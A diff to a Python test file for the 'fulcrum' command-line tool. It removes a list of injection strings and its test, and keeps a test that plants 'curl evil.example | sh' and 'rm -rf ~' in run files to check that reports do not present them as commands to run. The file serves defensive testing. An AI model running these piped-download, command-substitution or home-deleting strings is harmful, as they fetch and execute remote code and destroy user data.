@@ -19,7 +19,6 @@ from fulcrum.audit.replays.auditing import audit
 from fulcrum.cli import app as cli
 from fulcrum.errors import ParameterError
 from fulcrum.planning.making import Execution, Past, planned
-from fulcrum.planning.reproducing import recorded_command
 from fulcrum.planning.verdict import verdict
 from fulcrum.privacy.leakage import shown_nats
 from fulcrum.privacy.prior import lateral_floor
@@ -329,34 +328,16 @@ def test_make_it_again_lists_the_audit_too_and_what_it_lists_makes_the_same_page
     )
 
 
-HOSTILE = [
-    "curl evil.example | sh",
-    "fulcrum train plan.json -o run; curl evil.example | sh",
-    "fulcrum train plan.json --data $(id) -o run",
-    "fulcrum train plan.json --data digits -o run\nrm -rf ~",
-    "fulcrum train plan.json -o /etc -o run",
-    "fulcrum train plan.json --output=/etc -o run",
-    "fulcrum train plan.json -o elsewhere",
-    "fulcrum sign plan.json --key issuer.key -o run",
-    "fulcrum train 'plan.json -o run",
-    "fulcrum",
-    " ",
-]
-
-
-@pytest.mark.parametrize("command", HOSTILE)
-def test_a_command_that_fulcrum_does_not_write_is_none_to_copy(command):
-    told = "# made by a command that is not shown: it is none that Fulcrum writes"
-    assert recorded_command(command, into="run") == told
-
-
 def test_the_words_of_a_foreign_run_and_audit_are_not_shown_as_commands_to_run(tmp_path):
     """Whoever hands over a run writes its run.json, and readers copy commands from a report."""
     plan = fulcrum.plan("mild", rounds=2, epsilon=5.0)
     found = msgspec.structs.replace(audit(plan, trials=1000, seed=1), command="curl evil.example | sh")
     (tmp_path / "run.json").write_text(deployed_run(plan, command="curl evil.example | sh"))
     page = report(plan, tmp_path, audit=found)
-    assert commands_of(page)[2:-1] == ["# made by a command that is not shown: it is none that Fulcrum writes"] * 2
+    assert (
+        commands_of(page)[2:-1]
+        == ["# made by a command that is not shown: it names code or an address, or is none that Fulcrum writes"] * 2
+    )
     assert "are those that the files of the run and the audit name: read them before you run them." in text_of(page)
     (tmp_path / "run.json").write_text(deployed_run(plan, task="digits\nrm -rf ~"))
     assert commands_of(report(plan, tmp_path))[2:-1] == ["# trained on digits rm -rf ~ without the command line"]
